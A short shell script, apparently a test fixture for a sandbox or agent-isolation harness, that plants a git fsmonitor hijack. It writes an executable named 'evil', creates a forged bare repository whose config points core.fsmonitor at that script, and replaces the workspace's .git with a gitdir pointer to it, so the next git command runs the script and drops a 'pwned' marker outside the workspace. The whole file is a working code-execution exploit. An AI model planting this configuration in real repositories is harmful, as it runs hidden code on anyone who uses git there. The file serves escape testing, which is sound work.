#!/bin/sh
: > "$ARENA/ws/ran"
cat > "$ARENA/ws/evil" <<END
#!/bin/sh
touch "$ARENA/outside/pwned"
cat
END
chmod +x "$ARENA/ws/evil"
git init -q --bare forged; git config -f forged/config core.bare false; git config -f forged/config core.worktree "$ARENA/ws"; git config -f forged/config core.fsmonitor "$ARENA/ws/evil"
echo "gitdir: $ARENA/ws/forged" > .git; echo "gitdir: $ARENA/ws/forged" > .attack/new; mv -f .attack/new .git
